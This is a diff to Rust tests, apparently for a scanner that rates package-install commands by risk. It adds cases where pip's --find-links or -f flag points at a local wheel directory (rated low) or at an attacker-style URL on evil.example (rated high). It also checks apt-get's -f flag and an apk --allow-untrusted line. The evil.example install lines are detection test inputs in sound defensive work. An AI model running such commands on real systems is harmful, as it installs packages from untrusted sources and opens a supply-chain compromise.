@@ -31,6 +31,34 @@ fn packages_pins_and_sources() {
         kinds("pip install -i https://evil.example/simple requests==2.31.0")[0].1,
         Severity::High
     );
+    // --find-links takes a value: a directory in the image is not a package nor a source; a
+    // URL is a source, in every spelling.
+    for local in [
+        "pip install --no-index --find-links /wheels app==1.2.3",
+        "pip install --no-index -f /wheels app==1.2.3",
+        "pip install --find-links=/wheels app==1.2.3",
+    ] {
+        let found = kinds(local);
+        assert_eq!(found[0].1, Severity::Low, "{local}: {}", found[0].2);
+    }
+    for remote in [
+        "pip install --find-links https://evil.example/w app==1.2.3",
+        "pip install --find-links=https://evil.example/w app==1.2.3",
+        "pip install -fhttps://evil.example/w app==1.2.3",
+        "pip3 install -f https://evil.example/w app==1.2.3",
+    ] {
+        let found = kinds(remote);
+        assert_eq!(found[0].1, Severity::High, "{remote}: {}", found[0].2);
+        assert!(
+            found[0].2.contains("from https://evil.example/w"),
+            "{}",
+            found[0].2
+        );
+    }
+    // apt-get's -f takes no value.
+    assert!(kinds("apt-get -f install -y curl=7.88")[0]
+        .2
+        .contains("installs curl=7.88"));
     assert!(kinds("apk add --allow-untrusted foo=1")[0]
         .2
         .contains("--allow-untrusted"));
